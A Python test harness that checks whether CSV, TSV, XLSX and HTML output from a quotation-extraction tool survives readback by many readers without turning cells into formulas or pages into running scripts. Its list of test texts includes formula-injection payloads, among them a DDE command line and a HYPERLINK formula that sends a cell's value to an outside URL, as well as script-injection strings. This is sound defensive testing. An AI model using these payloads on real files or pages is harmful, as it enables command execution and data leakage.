"""Do other programs read what we write?

    readback.py PROGRAM FOLDER [--all]   write files, read them back, compare
    readback.py read READER FILE         rows as JSON, for the first form

Documents are made whose quotations, names and people are hostile or merely
ordinary texts. The program writes them as CSV, TSV and XLSX; every reader that
is installed reads the files, and each cell must be what the documented changes
make of its text: see docs/readers.md. What is known of a reader that changes
more is written down in KNOWN below, and nothing else is forgiven.

--all takes also the readers that are slow to start: R, Calc, Gnumeric.
"""
import csv
import html.parser
import json
import os
import re
import shutil
import subprocess
import sys

# 41,800 characters. Only one such cell a row: Miller 6.6 drops a line of TSV
# that is longer than 64 KiB, and says nothing.
LONG = "It went on and on, " * 2200
TEXTS = [
    # formulas, and what looks like them
    "=1+1", "+1", "-1+1", "-5%", "- Bonjour", "--", "@handle", "@SUM(1;2)",
    '=HYPERLINK("http://a.example/?"&A1;"click")', "=cmd|' /C calc'!A0",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\u22125", "\t=1+1",
    "\r=1+1", "\n@x", "\0=1+1", "\u202e=1+1", "\ufeff=1+1",
    "  =1+1", "'=1+1", "'tis so", ";=1", ",=1", "=",
    # numbers, dates, truths, nothing
    "007", "1E5", "1-2", "3/4", "2024-01-02", "May 5", "10:30", "50%",
    "$1,000", "1,5", "0x1F", "12345678901234567890", "TRUE", "false", "NA",
    "N/A", "null", "None", "nan", "#N/A", "inf",
    # marks, spaces, breaks
    'he said "no", twice', '"quoted" first', "it''s", "a\\nb \\t c\\\\d",
    "two\nlines", "two\r\nlines", "two\rlines", "three \n\t lines",
    "v\x0bt f\x0cf", "u\u2028v\u2029w\u0085x", "a\tb", "  padded  ",
    "\u00a0padded\u3000", "a  b", "x;y,z|w",
    # bytes and characters
    "nul \0 bell \x07 esc \x1b[31m del \x7f", "bad \udcff\udcc3 bytes",
    "lone \udced\udca0\udc80 \udced\udcb0\udc80 surrogates",
    "non \ufffe\uffff characters", "</script><script>alert(1)</script>",
    '" onclick="alert(1)', "<!-- x --!> <![CDATA[ y", "&lt;b&gt; &#x41;",
 "wave \U0001f44b\U0001f3fd family "
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufeffmark",
    "bidi \u202eabc\u202c \u2067x\u2069", "e\u0301 \u00e9 \u4e2d\u6587 \u05d0",
    "_x0041_ and _x000D_ and _X005f_", "<b>&amp;</b> & ]]>", "a" * 300, LONG,
]
FIRST = ["Ann", "Maria", "Ivan", "Peter", "Laura", "Karl", "Nina", "Paul"]
LAST = ["Lopez", "Horvat", "Okoro", "Lindqvist", "Moreau", "Tanaka", "Weber",
        "Novak", "Costa", "Hansen"]
COLUMNS = "document,quote,confidence,line,quote_spans,quote_id,note,ID"
NUMBERS = {"confidence", "line"}
SPACE = ("\t\n\v\f\r \x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f"
         "\u3000")
BREAK = "\n\v\f\r\x85\u2028\u2029"
failures = 0


def say(*words):
    print(*words, flush=True)


def fail(*words):
    global failures
    failures += 1
    say("FAIL:", *words)


# -- what is written -------------------------------------------------------


def name(i):
    return FIRST[i % len(FIRST)] + " " + LAST[i // len(FIRST)]


def raw(text):
    return text.encode("utf-8", "surrogateescape")


def noted(text):
    """What the table of people has of a text: it must be UTF-8, without NUL."""
    return re.sub("[\udc80-\udcff\0]", "?", text)[:1000]


def make(folder):
    """The documents and the table of people; returns the documents' names."""
    documents = []
    os.makedirs(folder, exist_ok=True)
    os.chdir(folder)
    with open("people.csv", "w", encoding="utf-8", newline="") as file:
        table = csv.writer(file, quoting=csv.QUOTE_ALL)
        table.writerow(["name", "note", "ID"])
        for i, text in enumerate(TEXTS):
            table.writerow([name(i), noted(text), "00%d" % i])
    for i, text in enumerate(TEXTS):
        document = "%02d.txt" % i
        if i % 5 == 0 and len(text) < 100:
            document = re.sub("[/\0]", "?", text) + " %d.txt" % i
        if document.startswith("-"):
            document = "./" + document
        with open(raw(document), "wb") as file:
            file.write(raw("“%s” said %s.\n" % (text, name(i))))
        documents.append(document)
    return documents


# -- what the documented changes make of it --------------------------------


def clean(text):
    """As in every table: valid, trimmed, a line break one space."""
    text = text.strip(SPACE.replace("\u2000-\u200a", "".join(
        map(chr, range(0x2000, 0x200B)))))
    text = re.sub("[%s]*[%s][%s]*" % (SPACE, BREAK, SPACE), " ", text)
    return re.sub("[\0-\x08\x0e-\x1f\x7f\ufffe\uffff\udc80-\udcff]", "\ufffd",
                  text)


def guard(text, tabs):
    if tabs:
        text = re.sub("[%s]*\t[%s]*" % (SPACE, SPACE), " ", text)
    if text and text[0] in "=+-@\uff1d\uff0b\uff0d\uff20" and text != "-":
        return "'" + text
    return "'" + text if tabs and text.startswith('"') else text


def stored(text):
    """As it stands in XLSX, where _x0041_ would be A."""
    return re.sub("_(?=[xX][0-9A-Fa-f]{4}_)", "_x005F_", text)


def cut(text):
    """To what a cell of XLSX holds, in units of UTF-16."""
    if len(stored(text).encode("utf-16-le")) // 2 <= 32767:
        return text
    while len(stored(text).encode("utf-16-le")) // 2 > 32766:
        text = text[:-1]
    return text + "…"


def expect(documents, spans, kind):
    """The table that the file of a kind must hold, header first."""
    rows = [COLUMNS.split(",")]
    for row in spans:
        i = documents.index(row["document"])
        text = open(raw(documents[i]), "rb").read()
        parts = [text[int(a):int(b)] for a, b in
                 (span.split("..") for span in row["quote_spans"].split(";"))]
        verbatim = b" ".join(parts).decode("utf-8", "surrogateescape")
        known = row["speaker"] == name(i)
        note = noted(TEXTS[i]) if known else ""
        cells = {"document": documents[i], "quote": verbatim, "note": note,
                 "ID": "00%d" % i if known else "",
                 "quote_id": row["quote_id"], "line": row["line"],
                 "confidence": row["confidence"],
                 "quote_spans": row["quote_spans"]}
        line = []
        for column in rows[0]:
            cell = clean(cells[column])
            if kind != "xlsx" and column not in NUMBERS:
                cell = guard(cell, kind == "tsv")
            line.append(cut(cell) if kind == "xlsx" else cell)
        rows.append(line)
    return rows


# -- readers ---------------------------------------------------------------
# Each takes a file and gives rows of strings, and perhaps the formulas met.


def read_csv(file):
    tabs = file.endswith(".tsv")
    eu = file.endswith("eu.csv")
    with open(file, encoding="utf-8-sig", newline="") as stream:
        if tabs:
            return list(csv.reader(stream, delimiter="\t",
                                   quoting=csv.QUOTE_NONE))
        rows = list(csv.reader(stream, delimiter=";" if eu else ",",
                               strict=True))
    if eu:  # its numbers have commas
        for row in rows[1:]:
            assert re.fullmatch(r"\d,\d\d", row[2]), row[2]
            row[2] = row[2].replace(",", ".")
    return rows


def read_pandas(file):
    import pandas
    tabs = {"sep": "\t", "quoting": 3} if file.endswith(".tsv") else {}
    table = pandas.read_csv(file, dtype=str, keep_default_na=False, **tabs)
    return [list(table.columns)] + table.values.tolist()


def read_openpyxl(file, sheet="Quotes"):
    import openpyxl
    from openpyxl.utils.escape import unescape
    rows = []
    for row in openpyxl.load_workbook(file)[sheet].iter_rows():
        line = []
        for cell in row:
            # openpyxl leaves _x005F_ to its users
            value = unescape(cell.value) if isinstance(cell.value, str) else \
                cell.value
            column = COLUMNS.split(",")[len(line)]
            if cell.data_type == "f":
                fail(file, "a formula:", value)
            if cell.row > 1 and isinstance(value, (int, float)):
                if column not in NUMBERS:
                    fail(file, "a number:", value)
                value = "%.2f" % value if column == "confidence" else \
                    "%d" % value
            line.append("" if value is None else value)
        rows.append(line)
    return rows


def read_sqlite(file):
    import sqlite3
    base = file + ".db"
    if os.path.exists(base):
        os.remove(base)
    mode = ".mode tabs" if file.endswith(".tsv") else ".mode csv"
    run("sqlite3", base, mode, ".import %s t" % file)
    rows = sqlite3.connect(base).execute("select * from t")
    return [[c[0] for c in rows.description]] + [list(r) for r in rows]


def read_json(text):
    rows = json.loads(text)
    return [list(rows[0])] + [["" if v is None else str(v)
                               for v in row.values()] for row in rows]


def read_miller(file):
    kind = "--itsv" if file.endswith(".tsv") else "--icsv"
    return read_json(run("mlr", "-S", kind, "--ojson", "cat", file))


def read_csvkit(file):
    kind = ["-t", "-u", "3"] if file.endswith(".tsv") else []
    return read_json(run("csvjson", "-I", "--blanks", *kind, file))


def read_R(file, package):
    script = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                          "readback.R")
    return [row.split("\x1f") for row in
            run("Rscript", script, package, file).split("\x1e")[:-1]]


def read_calc(file):
    """What Calc makes of a file, written as CSV; formulas by way of fods."""
    folder = "calc"
    base = os.path.splitext(os.path.basename(file))[0]
    inward = []
    if file.endswith(".csv"):  # UTF-8, "quoted field as text"
        inward = ["--infilter=CSV:44,34,76,1,,1033,true,false"]
    home = "-env:UserInstallation=file://" + os.path.abspath("calc.home")
    run("soffice", home, "--headless", *inward, "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false",
        "--outdir", folder, file)
    run("soffice", home, "--headless", *inward, "--convert-to", "fods",
        "--outdir", folder, file)
    sheet = open("%s/%s.fods" % (folder, base), encoding="utf-8").read()
    if "table:formula=" in sheet:
        fail(file, "a formula in Calc")
    with open("%s/%s.csv" % (folder, base), encoding="utf-8",
              newline="") as stream:
        return list(csv.reader(stream))


def read_gnumeric(file):
    out = file + ".gnumeric.csv"
    inward = []
    if file.endswith(".csv"):
        inward = ["--import-type=Gnumeric_stf:stf_csvtab",
                  "--import-encoding=UTF-8"]
    run("ssconvert", *inward, "--export-type=Gnumeric_stf:stf_assistant",
        "-O", "separator=, quoting-mode=always format=raw charset=UTF-8 "
        "eol=unix", file, out)
    run("ssconvert", *inward, "--export-type=Gnumeric_XmlIO:sax:0", file,
        file + ".xml")
    with open(file + ".xml", encoding="utf-8") as stream:
        if re.search(r"<gnm:Cell [^>]*>=[^<]*</gnm:Cell>",
                     re.sub(r'<gnm:Cell [^>]*ValueType="60"[^>]*>[^<]*<', "<",
                            stream.read())):
            fail(file, "a formula in Gnumeric")
    with open(out, encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    ours = len(list(csv.reader(open("spans.csv", encoding="utf-8"))))
    return [[digits(cell) for cell in row] for row in rows[:ours]]


def digits(cell):
    """Gnumeric writes 0.94 with all the digits that it has."""
    return "%.4g" % float(cell) if re.fullmatch(r"0\.\d{9,}", cell) else cell


READERS = {
    "python csv": read_csv,
    "pandas": read_pandas,
    "openpyxl": read_openpyxl,
    "sqlite3": read_sqlite,
    "miller": read_miller,
    "csvkit": read_csvkit,
    "base R": lambda file: read_R(file, "base"),
    "readr": lambda file: read_R(file, "readr"),
    "data.table": lambda file: read_R(file, "data.table"),
    "calc": read_calc,
    "gnumeric": read_gnumeric,
}
KINDS = {
    "calc": ["csv", "xlsx"], "gnumeric": ["csv", "xlsx"],
    "openpyxl": ["xlsx"],
}


def run(*words):
    done = subprocess.run(words, capture_output=True)
    if done.returncode != 0:
        raise RuntimeError("%s: %d: %s" % (
            words[0], done.returncode, done.stderr.decode("utf-8", "replace")))
    return done.stdout.decode("utf-8")


# -- what readers are known to change --------------------------------------


def miller_tsv(cell):
    """Backslashes are escapes in Miller's TSV."""
    return re.sub(r"\\([nt\\])", lambda m: {"n": "\n", "t": "\t",
                                            "\\": "\\"}[m[1]], cell)


def fread(cell):
    """fread leaves doubled quotes doubled."""
    return cell.replace('"', '""')


def number(cell):
    """A spreadsheet keeps the number, not its digits."""
    if not re.fullmatch(r"[01]\.\d\d", cell):
        return cell
    return re.sub(r"\.?0+$", "", cell)


def gnumeric(cell):
    """Gnumeric does not know _x005F_, which Excel and Calc read as _."""
    return number(stored(cell))


KNOWN = {
    ("miller", "tsv"): miller_tsv,
    ("data.table", "csv"): fread,
    ("calc", "csv"): number,
    ("calc", "xlsx"): number,
    ("gnumeric", "xlsx"): gnumeric,
}
# Gnumeric asks nobody when it opens CSV: 007 becomes 7, May 5 a date. There
# only formulas count, and the cells that came otherwise are told.
FREE = {("gnumeric", "csv")}


# -- comparing -------------------------------------------------------------


def compare(reader, kind, want, got):
    known = KNOWN.get((reader, kind), lambda cell: cell)
    cells = 0
    changed = 0
    if len(got) != len(want):
        fail(reader, kind, "%d rows, not %d" % (len(got), len(want)))
    for line, (old, new) in enumerate(zip(want, got)):
        if len(old) != len(new):
            fail(reader, kind, "row %d: %d cells" % (line, len(new)))
        for column, a, b in zip(want[0], old, new):
            cells += 1
            if b in (a, known(a)):
                continue
            changed += 1
            if (reader, kind) not in FREE:
                fail(reader, kind, "row %d, %s: %.80r, not %.80r" % (
                    line, column, b, a))
    return "%d cells, %d changed" % (cells, changed)


def version(reader):
    """What is installed, or None."""
    probe = {
        "pandas": [python("pandas"), "-c",
                   "import pandas; print(pandas.__version__)"],
        "openpyxl": [python("openpyxl"), "-c",
                     "import openpyxl; print(openpyxl.__version__)"],
        "sqlite3": ["sqlite3", "--version"],
        "miller": ["mlr", "--version"],
        "csvkit": ["csvjson", "--version"],
        "base R": ["Rscript", "-e", "cat(R.version.string)"],
        "readr": ["Rscript", "-e",
                  "cat(as.character(packageVersion('readr')))"],
        "data.table": ["Rscript", "-e",
                       "cat(as.character(packageVersion('data.table')))"],
        "calc": ["soffice", "--version"],
        "gnumeric": ["ssconvert", "--version"],
    }.get(reader)
    if probe is None:
        return "Python " + sys.version.split()[0]
    if shutil.which(probe[0]) is None:
        return None
    done = subprocess.run(probe, capture_output=True)
    words = (done.stdout or done.stderr).decode("utf-8", "replace").split("\n")
    return words[0][:60] if done.returncode == 0 else None


def python(module):
    """A Python that has the module, or a name that is none."""
    for interpreter in sys.executable, "/usr/bin/python3":
        if os.path.exists(interpreter) and subprocess.run(
                [interpreter, "-c", "import " + module],
                capture_output=True).returncode == 0:
            return interpreter
    return "no-python-with-" + module


def read(reader, file):
    if reader in ("pandas", "openpyxl"):
        return json.loads(run(python(reader), __file__, "read", reader, file))
    return READERS[reader](file)


def write(program, documents, kind, file, *options):
    """Write the documents; returns whether this build can."""
    done = subprocess.run(
        [program, "--lenient", "--all", "--offsets", "byte", "--people",
         "people.csv", "--min-confidence", "0", "-o", file, *options] +
        [raw(d) for d in documents], capture_output=True)
    if done.returncode == 2 and b"libxlsxwriter" in done.stderr:
        return False
    assert done.returncode == 0, (kind, done.stderr)
    return True


def squeezed(text):
    """What is left where white space and what no page takes are one space."""
    return " ".join(re.sub("[\0-\x20\x7f-\xa0\u2028\u2029\ufffd-\uffff"
                           "\udc80-\udcff]+", " ", text).split())


class Page(html.parser.HTMLParser):
    """The text of a page, and what would be run or fetched."""

    def __init__(self):
        super().__init__()
        self.text = []
        self.scripts = self.wrong = 0
        self.inside = ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in ("script", "style") else self.inside
        self.scripts += tag == "script"
        for key, value in attrs:
            bad = key.startswith("on") or key == "src" or (
                key == "href" and not (value or "").startswith("#"))
            self.wrong += bad
        self.wrong += tag in ("iframe", "object", "img", "link", "base")

    def handle_endtag(self, tag):
        self.inside = "" if tag == self.inside else self.inside

    def handle_data(self, data):
        if not self.inside:
            self.text.append(data)


def check_texts(program, documents, spans):
    """JSON lines and the review page hold the same words."""
    write(program, documents, "jsonl", "rows.jsonl")
    write(program, documents, "html", "rows.html")
    with open("rows.jsonl", encoding="utf-8", newline="\n") as stream:
        records = [json.loads(line) for line in stream]
    with open("rows.html", encoding="utf-8", newline="") as stream:
        page = Page()
        page.feed(stream.read())
    if len(records) != len(spans):
        fail("jsonl: rows", len(records), len(spans))
    if page.scripts != 1 or page.wrong:
        fail("html: scripts, attributes", page.scripts, page.wrong)
    shown = squeezed("".join(page.text))
    for record, row in zip(records, spans):
        text = open(raw(row["document"]), "rb").read()
        for part, span in zip(record["parts"], row["quote_spans"].split(";")):
            begin, end = map(int, span.split(".."))
            words = text[begin:end].decode("utf-8", "surrogateescape")
            # each byte that is not UTF-8 is U+FFFD, and nothing else changes
            want = re.sub("[\udc80-\udcff]+", "\ufffd", words)
            if re.sub("\ufffd+", "\ufffd", part["text"]) != want:
                fail("jsonl:", ascii(part["text"]), ascii(words))
            if squeezed(words) not in shown:
                fail("html: lacks", ascii(words[:100]))
        if squeezed(record["document"]) not in shown:
            fail("html: lacks", ascii(record["document"]))
    say("JSON lines, review page: %d rows" % len(records))


def main(program, folder, slow):
    program = os.path.abspath(program)
    documents = make(folder)
    # where the quotations stand, by a file that has nothing hostile in it
    numbers = {raw(d): i for i, d in enumerate(documents)}
    write(program, documents, "spans", "spans.csv", "--no-guard", "--columns",
          "document,speaker,quote_spans,quote_id,line,confidence")
    with open("spans.csv", encoding="utf-8-sig", newline="") as stream:
        spans = list(csv.DictReader(stream))
    given = {clean(d): d for d in documents}
    assert len(given) == len(numbers) == len(documents)
    for row in spans:
        row["document"] = given[row["document"]]
    found = {row["document"] for row in spans}
    joined = {row["document"] for row in spans if row["speaker"] == name(
        documents.index(row["document"]))}
    say("%d texts: %d are quotations, %d found their people" % (
        len(TEXTS), len(found), len(joined)))
    if len(found) < 0.95 * len(TEXTS) or len(joined) < 0.6 * len(TEXTS):
        fail("too few texts come through")
    files = {"csv": "rows.csv", "tsv": "rows.tsv", "xlsx": "rows.xlsx"}
    for kind, file in list(files.items()):
        if not write(program, documents, kind, file, "--columns", COLUMNS):
            say("SKIPPED: xlsx: this build writes no workbooks")
            del files[kind]
    write(program, documents, "csv", "rows.eu.csv", "--columns", COLUMNS,
          "--excel-locale", "eu")
    quick = ["python csv", "openpyxl", "sqlite3", "miller"]
    for reader in READERS:
        if reader not in quick and not slow:
            continue
        there = version(reader)
        if there is None:
            say("SKIPPED: %s is not installed" % reader)
            continue
        for kind in KINDS.get(reader, ["csv", "tsv"]):
            if kind not in files:
                continue
            try:
                got = read(reader, files[kind])
            except (RuntimeError, ValueError) as error:
                fail(reader, kind, error)
                continue
            cells = compare(reader, kind, expect(documents, spans, kind), got)
            say("%s (%s), %s: %s" % (reader, there, kind, cells))
    check_texts(program, documents, spans)
    compare("python csv", "eu", expect(documents, spans, "csv"),
            read_csv("rows.eu.csv"))
    say("%d failures" % failures)
    return 1 if failures else 0


if __name__ == "__main__":
    if sys.argv[1] == "read":
        print(json.dumps(READERS[sys.argv[2]](sys.argv[3])))
        sys.exit(1 if failures else 0)
    sys.exit(main(sys.argv[1], sys.argv[2], "--all" in sys.argv))
